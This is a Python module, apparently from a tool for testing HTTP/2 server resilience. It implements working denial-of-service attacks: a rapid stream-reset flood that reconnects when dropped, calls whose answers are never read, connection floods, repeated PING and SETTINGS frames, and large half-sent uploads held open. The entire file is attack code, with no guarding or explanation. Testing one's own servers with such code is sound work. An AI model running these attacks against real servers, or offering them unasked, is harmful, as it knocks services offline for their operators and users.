"""What attackers do. Each runs in a thread of its own, and ends by itself."""

from __future__ import annotations

import struct
import time
from collections import Counter
from dataclasses import dataclass, field

from tools.h2 import (
    ACK,
    CANCEL,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Call,
    Connection,
    call_headers,
    frame,
)

DEFAULT_WINDOW = 65_535
ENOUGH = 90.0
"""How long an attack may take at the most, in seconds."""


@dataclass
class Found:
    """What came of an attack."""

    sent: int = 0
    seconds: float = 0.0
    connections: int = 0
    ended: Counter[str] = field(default_factory=Counter)

    @property
    def rate(self) -> float:
        """How many a second."""
        return self.sent / self.seconds


def rapid_resets(target: str, call: Call, rate: int, seconds: int, connections: int) -> Found:
    """Begin calls and reset each at once, so many a second, over some connections."""
    cancel = CANCEL.to_bytes(4)
    found = Found(connections=connections)
    open_now = [Connection(target) for _ in range(connections)]
    begin = time.monotonic()
    # All of them, however long it takes: the number is fixed, not the time.
    while found.sent < rate * seconds and time.monotonic() - begin < ENOUGH:
        due = min(int((time.monotonic() - begin) * rate), rate * seconds) - found.sent
        if due <= 0:
            time.sleep(0.001)
            continue
        for place, connection in enumerate(open_now):
            part = min(due, max(1, due // connections))
            due -= part
            batch = bytearray()
            for _ in range(min(part, 200)):
                stream = connection.stream()
                batch += call.frames(stream)
                batch += frame(RST_STREAM, 0, stream, cancel)
                found.sent += 1
            connection.send(bytes(batch))
            while connection.read():
                pass
            if connection.closed or connection.goaway or connection.spent:
                # One that was thrown out comes again.
                connection.close()
                open_now[place] = Connection(target)
                found.connections += 1
    found.seconds = time.monotonic() - begin
    for connection in open_now:
        connection.close()
    return found


def unread_answers(target: str, call: Call, calls: int) -> Connection:
    """Make calls, and read nothing of what is answered. The connection is the caller's."""
    connection = Connection(target, s4=0)
    for _ in range(calls):
        connection.send(call.frames(connection.stream()))
    return connection


def many_connections(target: str, call: Call, count: int) -> tuple[Found, list[Connection]]:
    """Open connections as fast as it goes, make a call on each, and read all answers."""
    begin = time.monotonic()
    opened = []
    for _ in range(count):
        connection = Connection(target)
        connection.send(call.frames(connection.stream()))
        opened.append(connection)
    found = Found(count, time.monotonic() - begin, count)
    for connection in opened:
        until = time.monotonic() + ENOUGH
        while not (connection.ended or connection.closed) and time.monotonic() < until:
            connection.read(1.0)
        found.ended["answered" if connection.ended[0] else "closed"] += 1
    return found, opened


def flood(connection: Connection, data: bytes, times: int) -> int:
    """Send the same frames again and again; return how often, until the server closes."""
    for number in range(times):
        if connection.goaway or not connection.send(data):
            return number
        while connection.read():
            pass
    return times


def pings(count: int) -> bytes:
    return frame(PING, 0, 0, b"12345678") * count


def settings_frames(count: int) -> bytes:
    return frame(SETTINGS, 0, 0, struct.pack("!HI", 4, DEFAULT_WINDOW)) * count


def half_requests(target: str, path: str, calls: int, size: int) -> Connection:
    """Send almost all of many large requests, as far as the server takes them."""
    connection = Upload(target)
    opening = struct.pack("!BI", 0, size)
    for _ in range(calls):
        stream = connection.stream()
        connection.send(frame(HEADERS, END_HEADERS, stream, call_headers(path)))
        connection.send(frame(DATA, 0, stream, opening))
        connection.left[stream] = size - 10
        connection.windows[stream] = connection.initial - len(opening)
        connection.window -= len(opening)
    quiet = 0
    while quiet < 20 and not connection.closed:
        came = connection.read(0.05)
        quiet = 0 if connection.send_more() or came else quiet + 1
    return connection


class Upload(Connection):
    """A connection that keeps to the server's windows."""

    CHUNK = b"x" * 16_384

    def __init__(self, target: str) -> None:
        self.window = DEFAULT_WINDOW
        self.initial = DEFAULT_WINDOW
        self.windows: dict[int, int] = {}
        self.left: dict[int, int] = {}
        super().__init__(target)
        self.read_until(0.2)

    def take_frame(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == WINDOW_UPDATE and stream == 0:
            self.window += int.from_bytes(payload)
        elif kind == WINDOW_UPDATE and stream in self.windows:
            self.windows[stream] += int.from_bytes(payload)
        elif kind == SETTINGS and not flags & ACK:
            for at in range(0, len(payload), 6):
                name, value = struct.unpack_from("!HI", payload, at)
                if name == 4:
                    for each in self.windows:
                        self.windows[each] += value - self.initial
                    self.initial = value
        elif kind in {HEADERS, RST_STREAM}:
            self.left.pop(stream, None)

    def send_more(self) -> int:
        """Send what the windows allow; return how many bytes."""
        sent = 0
        for stream in list(self.left):
            room = min(self.window, self.windows[stream], self.left[stream], 2**18)
            while room > 0:
                part = self.CHUNK[:room]
                self.send(frame(DATA, 0, stream, part))
                room -= len(part)
                sent += len(part)
                self.window -= len(part)
                self.windows[stream] -= len(part)
                self.left[stream] -= len(part)
        return sent
